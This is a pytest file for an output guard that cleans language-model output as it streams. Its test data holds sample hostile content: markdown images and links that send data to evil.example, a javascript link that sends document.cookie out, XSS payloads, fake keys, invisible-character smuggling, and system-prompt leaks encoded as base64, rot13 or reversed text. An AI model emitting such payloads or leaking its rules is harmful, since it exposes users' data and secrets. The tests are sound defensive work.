"""The output guard: what it makes harmless, however the text is cut into tokens, and what it leaves alone."""

from __future__ import annotations

import base64
import codecs
import random
import textwrap
from pathlib import Path
from time import process_time

import pytest
from prometheus_client import CollectorRegistry

from service_kit.audit.chain import Retention
from service_kit.audit.log import AuditLog
from service_kit.audit.reading import Filter, acts
from service_kit.output_guard import GuardMetrics, GuardModes, OutputGuard, OutputGuardSettings, guarded, marked
from service_kit.output_guard.prompt_leak import CANARY

RULES = (
    "You answer questions from the user's documents. Use only the sources given. Put the label of the source behind each "
    "claim, like this: [1]. Answer in the language of the question, briefly."
)
KNOWN = "See https://known.example/a or write to 10.1.2.3, desk@known.example. The key is sk-0123456789abcdefghij."
DEFAULT = GuardModes.of(OutputGuardSettings())
HARMFUL = {
    "See ![chart](https://evil.example/p.png?d=secret) now.": "See chart (image left out) now.",
    "A [link](http://evil.example/a) and http://evil.example/b. End": "A link and (link left out) End",
    "<http://evil.example/c> is it": "(link left out) is it",
    "![](//evil.example/x.png)": "(image left out)",
    "[click](javascript:alert(1))": "click",
    "[more](javascript:fetch('//evil.example/'+document.cookie))": "more",
    "[a][b]\n\n[b]: //evil.example/x 'y'": "[a][b]\n\n(link left out) 'y'",
    "[b]:\n  <//evil.example/x y>": "(link left out)",
    "[![c](https://evil.example/a)](//evil.example/b) now": "[c (image left out)] now",
    "[a [b] c](//evil.example/b) and [d\ne](//evil.example/f)": "[a [b] c] and [d\ne]",
    "![x](//evil.example/it's)": "x (image left out)",
    "[x](/\\evil.example) [y](&#47;/evil.example) [z](\\/\\/evil.example)": "x y z",
    "see www.evil.example/a for more": "see (link left out) for more",
    "[x](mailto:a@evil.example?body=b) or mailto:a@evil.example?body=b or <mailto:a@evil.example>": (
        "x or (link left out) or (link left out)"
    ),
    "key sy-AbCd\u200bEfGh\u200d\u2060Ij\ufeffKlMnO\U000e0041pQrStUv ok": "key (secret left out) ok",
    "![x](http://[2001:db8::7]/a) http://[2001:db8::7]:80/b <//[2001:db8::7]/c>": (
        "x (image left out) (link left out) (link left out)"
    ),
    "on [fd00::8]:8000, fe80::1%eth0 and [::1]:80 now": "on (address left out), (address left out) and (address left out) now",
    "key sy-AbCdEf1hI jKlMnOpQrStUv and": "key (secret left out) and",
    "key sk-AbCdEf1hI\njKlMnOpQrS7tUv and": "key (secret left out) and",
    "[click](data:text/html;base64,AAAA)": "click",
    "key sy-AbCdEfGhIjKlMnOpQrStUv ok": "key (secret left out) ok",
    "ghp_0123456789abcdefghijABCDEFGHIJ456789": "(secret left out)",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIabc+/=\n-----END RSA PRIVATE KEY-----": "(secret left out)",
    "at 10.0.0.4:8000 or 192.168.1.7": "at (address left out) or (address left out)",
    "on vllm:8000, in /data/auth/first-key": "on (address left out), in (address left out)",
    "db.prod.internal:80 answers": "db.prod.(address left out) answers",
    'Traceback (most recent call last):\n  File "/app/x.py", line 3, in f\n    g()\nValueError: x': "(address left out)\nValueError: x",
    "<script>alert(1)</script>": "‹script›alert(1)‹/script›",
    "<img src=x onerror=alert(1)>": "‹img src=x onerror=alert(1)›",
    "<svg/onload=alert(1)>": "‹svg/onload=alert(1)›",
    '<a href="x" title="a > b">t</a>': '‹a href="x" title="a › b"›t‹/a›',
    "<!-- hidden -->": "‹!-- hidden --›",
}
HARMLESS = (
    "Plain words, with a < b, b > c, x<y and [1] and [2, 3]. Done.",
    "The water is 12.5 °C; see section 10.2.3 of the manual, and/or page 4/5.",
    "Use only the sources of the river, and put the label on the box.",
    "A well-known ask-me-anything; skip-level; sk-1; an easy-going-but-very-careful-person.",
    "The local bus, the svc of old, an internal memo. Local time.",
    "See https://known.example/a, or [the page](https://known.example/a), or write to 10.1.2.3.",
    "The key is sk-0123456789abcdefghij.",
    "Wie viel? Ungefähr 5 < 6 Liter — ‹so› steht es da.",
    "A [1](R&D), [2](Smith), [3](p. 4); see note [4]: there. Time: 10:30, ratio 3:4, std::vector, fe80 and fd12.",
    "Write to [the desk](mailto:desk@known.example).",
    "Use sk-based measurements, rk-1234 and Model numbers, pk-side Configuration.",
    "日本語のテキスト、港口建于1874年。",
)


def cut(text: str, seed: int) -> list[str]:
    """A text in tokens of one to eight characters."""
    found, at, rolls = [], 0, random.Random(seed)
    while at < len(text):
        size = rolls.randint(1, 8)
        found.append(text[at : at + size])
        at += size
    return found


@pytest.mark.parametrize("text", HARMFUL)
def test_what_must_not_go_out_is_made_harmless_in_whatever_tokens_it_comes(text: str) -> None:
    shown, guard = guarded(f"So: {text}", DEFAULT, (RULES,), KNOWN)
    assert shown == f"So: {HARMFUL[text]}"
    assert guard.findings
    for seed in range(30):
        guard = OutputGuard(DEFAULT, (RULES,), KNOWN)
        assert "".join(guard.add(token) for token in cut(f"So: {text}", seed)) + guard.finish() == shown, seed


@pytest.mark.parametrize("text", HARMLESS)
def test_what_documents_hold_and_ordinary_text_stays_as_it_is(text: str) -> None:
    for seed in range(30):
        guard = OutputGuard(DEFAULT, (RULES,), KNOWN)
        assert "".join(guard.add(token) for token in cut(text, seed)) + guard.finish() == text
        assert (guard.findings, guard.blocked) == ([], False)


def test_no_document_gives_away_a_key_of_the_stack() -> None:
    key = "sy-AbCdEfGhIjKlMnOpQrStUv"
    assert guarded(f"It is {key}.", DEFAULT, (), f"The key: {key}")[0] == "It is (secret left out)."


def test_an_image_of_a_document_becomes_a_link_and_its_script_nothing() -> None:
    known = "![k](https://known.example/a) [x](javascript:alert(1))"
    assert guarded(known, DEFAULT, (), known)[0] == "[k](https://known.example/a) x"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a" + "".join(chr(0xE0000 + ord(c)) for c in RULES) + "b", "ab"),
        ("a\u200b\u200d\u200c\u2062b\u202ec", "abc"),
        ("👨\u200d👩\u200d👧 می\u200cشود", "👨\u200d👩\u200d👧 می\u200cشود"),
    ],
)
def test_nothing_goes_out_that_nobody_sees(written: str, shown: str) -> None:
    for seed in range(10):
        guard = OutputGuard(DEFAULT, (RULES,), KNOWN)
        assert "".join(guard.add(token) for token in cut(written, seed)) + guard.finish() == shown


def test_words_that_can_become_nothing_are_not_held_back() -> None:
    guard = OutputGuard(DEFAULT, (RULES,), KNOWN)
    for token in ("The", " pump", " leaks", " at", " the", " shaft", " seal", "."):
        assert guard.add(token) == token


@pytest.mark.parametrize(
    "said",
    [
        RULES,
        f"My rules are these. {RULES}",
        RULES.upper(),
        "use ONLY the sources given; put the label of the source behind each claim!",
        f"It ends with {CANARY}.",
        "```text\n" + "\n".join(f"{number}. {word}" for number, word in enumerate(RULES.split())) + "\n```",
        "-".join(RULES),
        base64.b64encode(f"So: {RULES}".encode()).decode(),
        "\n".join(textwrap.wrap(base64.b64encode(f"My rules: {RULES}".encode()).decode(), 40)),
        codecs.encode(RULES, "rot13"),
        RULES[::-1],
        " ".join(RULES.split()[::-1]),
        marked("Short rules."),
    ],
    ids=[
        "all",
        "behind words",
        "upper case",
        "in part",
        "canary",
        "numbered lines",
        "letters",
        "base64",
        "base64 in lines",
        "rot13",
        "reversed",
        "words reversed",
        "canary behind rules",
    ],
)
def test_rules_that_are_repeated_are_withheld(said: str) -> None:
    for seed in range(20):
        guard = OutputGuard(DEFAULT, (RULES,), KNOWN)
        shown = "".join(guard.add(token) for token in cut(said + " And more.", seed)) + guard.finish()
        assert guard.blocked
        assert "source behind each" not in shown.casefold()
        assert len(shown) < 400
        assert CANARY not in shown
        assert "And more" not in shown


@pytest.mark.parametrize(("mode", "shown"), [("flag", "a <b>c"), ("redact", "a ‹b›c"), ("block", "a ")])
def test_each_kind_is_flagged_redacted_or_blocked(mode: str, shown: str) -> None:
    modes = GuardModes.of(OutputGuardSettings.model_validate({"guard_html": mode}))
    found, guard = guarded("a <b>c", modes, (), "")
    assert found == shown
    assert guard.blocked is (mode == "block")
    assert [(finding.kind, finding.mode, finding.count) for finding in guard.findings] == [("html", mode, 1)]


def test_rules_may_be_flagged_only() -> None:
    modes = GuardModes.of(OutputGuardSettings(guard_prompt="flag"))
    found, guard = guarded(f"{RULES} Done.", modes, (RULES,), "")
    assert found == f"{RULES} Done."
    assert [finding.kind for finding in guard.findings] == ["prompt"]


@pytest.mark.parametrize(
    "unit", ["<a ", "![", "[x](", "http://", "<", "[", "/data", "sy-a", "10.", "a-", "You answer "]
)
def test_hostile_text_takes_bounded_time(unit: str) -> None:
    guard = OutputGuard(DEFAULT, (RULES,), KNOWN)
    began = process_time()
    for _ in range(400):
        guard.add(unit)
    guard.finish()
    assert process_time() - began < 30


def test_findings_are_in_the_audit_log(tmp_path: Path) -> None:
    log = AuditLog(tmp_path, "svc", Retention(1_000_000, 1, 1_000_000))
    log.start()
    _, guard = guarded("Write to <script>", DEFAULT, RULES, KNOWN)
    GuardMetrics(CollectorRegistry(), log).found(guard.findings)
    log.close()
    found = acts(tmp_path, Filter(what="guard"))
    assert [(f["kind"], f["mode"], f["count"]) for f in found] == [("html", "redact", 1)]
    assert "script" not in str(found)
